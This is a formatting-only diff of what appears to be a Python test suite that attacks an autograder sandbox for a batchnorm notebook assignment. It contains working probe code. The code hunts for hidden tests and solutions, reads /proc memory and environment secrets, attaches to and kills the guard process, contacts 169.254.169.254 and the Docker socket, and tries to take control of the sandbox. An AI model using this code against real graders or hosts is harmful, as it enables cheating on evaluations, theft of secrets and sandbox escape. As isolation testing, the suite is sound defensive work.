@@ -14,23 +14,32 @@ def found(*what):
 @attack()
 def cell_history(submission: Submission):
     """Looks for the tests among the inputs and outputs of cells that have run."""
-    submission.own(FOUND + """
+    submission.own(
+        FOUND
+        + """
 for text in [*In, *map(str, Out.values()), *(line for *_, line in get_ipython().history_manager.get_range())]:
     if "seed" + "=" in str(text):
         found(text)
-    """, before="check_update_running_statistics")
-    submission.answer("batchnorm_forward", """
+    """,
+        before="check_update_running_statistics",
+    )
+    submission.answer(
+        "batchnorm_forward",
+        """
         def batchnorm_forward(*args):
             if "seed" + "=" in In[-1] + In[-2]:
                 print("LE" + "AK", In[-1])
             return 0
-    """)
+    """,
+    )
 
 
 @attack(flag="gc")
 def garbage_collector(submission: Submission):
     """Looks through all objects in memory, for cases and right values."""
-    submission.own(FOUND + """
+    submission.own(
+        FOUND
+        + """
 import gc, inspect
 def batchnorm_forward(x, gamma, beta, eps=1e-5):
     for thing in gc.get_objects():
@@ -44,13 +53,17 @@ def batchnorm_forward(x, gamma, beta, eps=1e-5):
         if "grading/" in frame.filename and "inside" not in frame.filename:
             found(frame.filename)
     return x, x, x[0], x[0]
-    """, before="check_batchnorm_forward")
+    """,
+        before="check_batchnorm_forward",
+    )
 
 
 @attack(flag="/proc")
 def process_files(submission: Submission):
     """Reads the memory, the environment and the open files of every process that it can see."""
-    submission.own(FOUND + """
+    submission.own(
+        FOUND
+        + """
 import os
 for pid in filter(str.isdigit, os.listdir("/proc")):
     if int(pid) == os.getpid():
@@ -63,13 +76,16 @@ for pid in filter(str.isdigit, os.listdir("/proc")):
             continue
         found(path, content)
 print(len([name for name in os.listdir("/proc") if name.isdigit()]), "processes")
-    """)
+    """
+    )
 
 
 @attack(flag="ptrace")
 def other_processes(submission: Submission):
     """Attaches to the process that guards it, and to its parent, by ptrace and by process_vm_readv."""
-    submission.own(FOUND + """
+    submission.own(
+        FOUND
+        + """
 import ctypes, os
 libc = ctypes.CDLL(None, use_errno=True)
 for pid in (1, os.getppid()):
@@ -81,13 +97,16 @@ for pid in (1, os.getppid()):
         os.kill(pid, 9)
     except OSError:
         pass
-    """)
+    """
+    )
 
 
 @attack()
 def files_of_the_course(submission: Submission):
     """Opens the solutions, the gradebook, the secret, and the submissions of others, by their paths."""
-    submission.own(FOUND + f"""
+    submission.own(
+        FOUND
+        + f"""
 import os, pathlib
 course = pathlib.Path({str(submission.world.course)!r})
 for path in (course, *course.parents):
@@ -104,13 +123,16 @@ for folder, names, files in os.walk("/", followlinks=False):
     for name in files:
         if name.endswith((".ipynb", ".db", "grading_secret")) or "solution" in name:
             found(folder, name)
-    """)
+    """
+    )
 
 
 @attack()
 def reference_package(submission: Submission):
     """Imports the reference and the checks under every name they might have."""
-    submission.own(FOUND + """
+    submission.own(
+        FOUND
+        + """
 import importlib, pkgutil
 import bn_reference
 for name in ("batchnorm", "moments", "checks.judging", "checks.spec", "checks.ps2_batchnorm", "checks.catalogue"):
@@ -126,25 +148,31 @@ for name in ("grading.answers", "grading.marking", "nbgrader", "nbgrader_config"
 for module in pkgutil.walk_packages(bn_reference.__path__, "bn_reference."):
     if module.name not in ("bn_reference.checks", "bn_reference.checks.calling"):
         found(module.name)
-    """)
+    """
+    )
 
 
 @attack()
 def environment_variables(submission: Submission):
     """Looks for secrets in its environment."""
-    submission.own(FOUND + """
+    submission.own(
+        FOUND
+        + """
 import os, subprocess
 for text in (str(dict(os.environ)), subprocess.run(["env"], capture_output=True, text=True).stdout):
     if "canary" in text or "/work" in text or "root" in text:
         found(text)
-    """)
+    """
+    )
 
 
 @attack()
 def written_files(submission: Submission):
     """Writes wherever it can, and prints where it could that is not its own."""
     world = submission.world
-    submission.own(FOUND + f"""
+    submission.own(
+        FOUND
+        + f"""
 import os
 for folder in ({str(world.course)!r}, {str(world.course / "course")!r}, {str(world.open_folder)!r}, "/", "/usr", "/etc",
                "/course", "/packages", "/packages/numpy", "/grader", "/grader/inside", "/dev", "/proc", "/proc/sys/kernel"):
@@ -163,26 +191,32 @@ for file in ("/grader/inside/conversation.py", "/course/bn_reference/checks/call
         pass
 for name in ("/tmp", "/home", "/dev/shm"):
     open(name + "/left_for_the_next", "w").write("x")
-    """)
+    """
+    )
 
 
 @attack()
 def left_by_others(submission: Submission):
     """Looks for what another submission has left in the folders in which all may write."""
-    submission.own(FOUND + """
+    submission.own(
+        FOUND
+        + """
 import os
 for folder in ("/tmp", "/home", "/dev/shm"):
     for name in os.listdir(folder):
         found(folder, name)
 import subprocess
 print(subprocess.run(["ls", "-la", "/tmp"], capture_output=True, text=True).stdout)
-    """)
+    """
+    )
 
 
 @attack()
 def network(submission: Submission):
     """Calls a listener on this machine by TCP and UDP, by name and by number, and the world beyond."""
-    submission.own(FOUND + f"""
+    submission.own(
+        FOUND
+        + f"""
 import socket
 for host in ("127.0.0.1", "::1", "localhost", "1.1.1.1", "169.254.169.254"):
     for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
@@ -205,13 +239,16 @@ for kind in (socket.SOCK_RAW, socket.SOCK_PACKET):
         found(socket.socket(17, kind))
     except OSError:
         pass
-    """)
+    """
+    )
 
 
 @attack()
 def sockets_of_the_host(submission: Submission):
     """Connects to the host's sockets with names: of a listener here, of Docker, of D-Bus, of X, abstract ones."""
-    submission.own(FOUND + f"""
+    submission.own(
+        FOUND
+        + f"""
 import socket
 for name in ({str(submission.world.socket)!r}, "/var/run/docker.sock", "/run/dbus/system_bus_socket",
              "/tmp/.X11-unix/X0", {chr(0) + "canary-" + str(submission.world.port)!r}):
@@ -221,13 +258,16 @@ for name in ({str(submission.world.socket)!r}, "/var/run/docker.sock", "/run/dbu
             found("connected to", name)
     except OSError:
         pass
-    """)
+    """
+    )
 
 
 @attack()
 def control_of_the_sandbox(submission: Submission):
     """Looks for an inherited socket by which the sandbox is told to fork, and tells it to."""
-    submission.own(FOUND + """
+    submission.own(
+        FOUND
+        + """
 import os, socket
 fds = [int(name) for name in os.listdir("/proc/self/fd")]
 for fd in fds:
@@ -242,4 +282,5 @@ for fd in fds:
             found("told the sandbox")
         except OSError:
             pass
-    """)
+    """
+    )
